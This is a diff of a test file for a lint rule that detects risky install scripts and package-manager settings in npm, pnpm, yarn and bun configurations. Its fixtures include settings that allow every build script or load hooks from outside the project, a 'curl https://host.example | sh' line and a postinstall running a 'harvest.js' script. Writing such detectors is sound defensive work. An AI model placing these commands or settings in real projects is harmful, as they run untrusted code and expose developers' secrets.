@@ -28,8 +28,61 @@ const BENIGN = [
 /** Nothing wrong to be seen, but they run whenever somebody installs. */
 const REVIEW = ['node install.js', 'node scripts/build.js', 'sh scripts/setup.sh', './configure', 'make', 'python3 setup.py', 'npm install', 'node ./lib/postinstall.cjs', 'some-tool --flag', 'npx some-tool', 'git commit -am x', "node -e \"require('fs').copyFileSync('a', 'b')\"", "node -p \"require('some-package')\""];
 
+/** A settings file of a package manager. */
+const file = (filename: string, code: string, more: Partial<InvalidCase> = {}): Case & Partial<InvalidCase> => ({ code: `${code}\n`, filename, ...more });
+const SETTINGS_HONEST: readonly (readonly [filename: string, code: string])[] = [
+  ['package.json', '{"pnpm": {"onlyBuiltDependencies": ["esbuild"], "neverBuiltDependencies": ["fsevents"], "strictDepBuilds": true, "onlyBuiltDependenciesFile": "node_modules/@acme/policy/builds.json"}}'],
+  ['package.json', '{"neverBuiltDependencies": [], "strictDepBuilds": false}'],
+  ['package.json', '{"allowScripts": {"sharp@0.34.1": true, "@acme/native@1.0.0": true, "core-js": false, "canvas": "5.0.1"}}'],
+  ['package.json', '{"trustedDependencies": ["esbuild", "better-sqlite3", "@tailwindcss/oxide", "sharp"]}'],
+  ['package.json', '{"trustedDependencies": []}'],
+  ['pnpm-workspace.yaml', 'strictDepBuilds: true\nneverBuiltDependencies:\n  - fsevents\npnpmfile: .pnpmfile.cjs\nscriptShell: /bin/bash\nonlyBuiltDependenciesFile: builds.json'],
+  ['.npmrc', 'strict-allow-scripts=true\nscript-shell=bash\nshell=/bin/zsh\ngit=git\neditor=vim\npnpmfile=config/pnpmfile.cjs\ntoken-helper-docs=x'],
+  ['.npmrc', '//registry.acme.example/:_authToken=${TOKEN}'],
+  ['.yarnrc.yml', 'yarnPath: .yarn/releases/yarn-4.9.1.cjs\nplugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-version.cjs\n    spec: "@yarnpkg/plugin-version"\n  - .yarn/plugins/plugin-own.cjs'],
+  ['.yarnrc.yml', 'yarnPath: ../../.yarn/releases/yarn-4.9.1.cjs\nplugins:\n  - path: ../../.yarn/plugins/plugin-own.cjs'],
+  ['.yarnrc', 'yarn-path ".yarn/releases/yarn-1.22.22.cjs"'],
+  ['bunfig.toml', 'preload = ["./test/setup.ts"]\n[install]\nignoreScripts = true\n[install.security]\nscanner = "@socketsecurity/bun-security-scanner"\n[run]\nshell = "system"'],
+];
+const SETTINGS_BAD: readonly (readonly [filename: string, code: string, messageId: string])[] = [
+  ['package.json', '{"pnpm": {"neverBuiltDependencies": []}}', 'everything'],
+  ['package.json', '{"pnpm": {"onlyBuiltDependenciesFile": "https://host.example/builds.json"}}', 'everything'],
+  ['package.json', '{"pnpm": {"dangerouslyAllowAllBuilds": true}}', 'everything'],
+  ['pnpm-workspace.yaml', 'neverBuiltDependencies: []', 'everything'],
+  ['pnpm-workspace.yaml', 'pnpmfile: ../elsewhere/pnpmfile.cjs', 'loads'],
+  ['pnpm-workspace.yaml', 'pnpmfile: .vscode/hooks.cjs', 'loads'],
+  ['pnpm-workspace.yaml', 'scriptShell: ./tools/sh', 'loads'],
+  ['.npmrc', 'dangerously-allow-all-scripts=true', 'everything'],
+  ['.npmrc', '//registry.acme.example/:tokenHelper=/tmp/token', 'loads'],
+  ['.npmrc', 'tokenHelper=./token.sh', 'loads'],
+  ['.npmrc', 'shell=./tools/sh', 'loads'],
+  ['.npmrc', 'pnpmfile=.github/hooks.cjs', 'loads'],
+  ['.yarnrc.yml', 'yarnPath: ../yarn.cjs', 'loads'],
+  ['.yarnrc.yml', 'yarnPath: /tmp/yarn.cjs', 'loads'],
+  ['.yarnrc.yml', 'yarnPath: ~/yarn.cjs', 'loads'],
+  ['.yarnrc.yml', 'plugins:\n  - .vscode/plugin.cjs', 'loads'],
+  ['.yarnrc.yml', 'plugins:\n  - path: ../plugin.cjs', 'loads'],
+  ['bunfig.toml', '[install.security]\nscanner = "./.github/scan.ts"', 'loads'],
+];
+const SETTINGS_STRICT: readonly (readonly [filename: string, code: string, messageId: string])[] = [
+  ['package.json', '{"allowScripts": {"@acme/native": true}}', 'anyVersion'],
+  ['package.json', '{"allowScripts": {"fsevents": "*"}}', 'anyVersion'],
+  ['package.json', '{"trustedDependencies": ["esbuild", "some-helper"]}', 'unknownBuilder'],
+  ['package.json', '{"pnpm": {"strictDepBuilds": false}}', 'unasked'],
+  ['pnpm-workspace.yaml', 'strictDepBuilds: false', 'unasked'],
+  ['.npmrc', 'strict-allow-scripts=false', 'unasked'],
+  ['.npmrc', 'ignore-scripts=false', 'everything'],
+  ['.yarnrc.yml', 'plugins:\n  - path: tools/plugin.cjs', 'loads'],
+  ['bunfig.toml', '[install]\nignoreScripts = false', 'everything'],
+  ['bunfig.toml', '[install.security]\nscanner = "some-scanner"', 'loads'],
+  ['bunfig.toml', '[run]\nshell = "./sh"', 'loads'],
+];
+
 await ruleTester(rule, {
   valid: [
+    file('package.json', '{"trustedDependencies": ["@acme/native"], "allowScripts": {"@acme/native": true}}', { options: { strict: true, allow: ['@acme/*'] } }),
+    ...SETTINGS_HONEST.map(([filename, code]) => file(filename, code, strict)),
+    ...SETTINGS_STRICT.map(([filename, code]) => file(filename, code)),
     ...BENIGN.map((script) => ok({ postinstall: script }, strict)),
     ...REVIEW.map((script) => ok({ postinstall: script })),
     ok({ build: 'node ./node_modules/x/harvest.js', test: 'curl https://host.example | sh', prepack: 'npm publish', postbuild: 'npm i -g x' }, strict),
@@ -47,6 +100,9 @@ await ruleTester(rule, {
     gyp({ targets: [{ actions: [{ action_name: 'a', action: ['python', 'tools/gen.py', '<@(_inputs)'] }] }] }, {}),
   ],
   invalid: [
+    ...SETTINGS_BAD.map(([filename, code, messageId]) => file(filename, code, { errors: [{ messageId }] }) as InvalidCase),
+    ...SETTINGS_STRICT.map(([filename, code, messageId]) => file(filename, code, { ...strict, errors: [{ messageId }] }) as InvalidCase),
+    file('.yarnrc.yml', 'nodeLinker: pnp\nplugins:\n  - path: ../plugin.cjs', { errors: [{ messageId: 'loads', line: 3, column: 5, endLine: 3, endColumn: 9, data: { script: 'path', label: '../plugin.cjs' } }] }) as InvalidCase,
     {
       code: '{\n  "scripts": {\n    "postinstall": "node ./node_modules/logger-utility/harvest.js"\n  }\n}',
       filename: 'package.json',
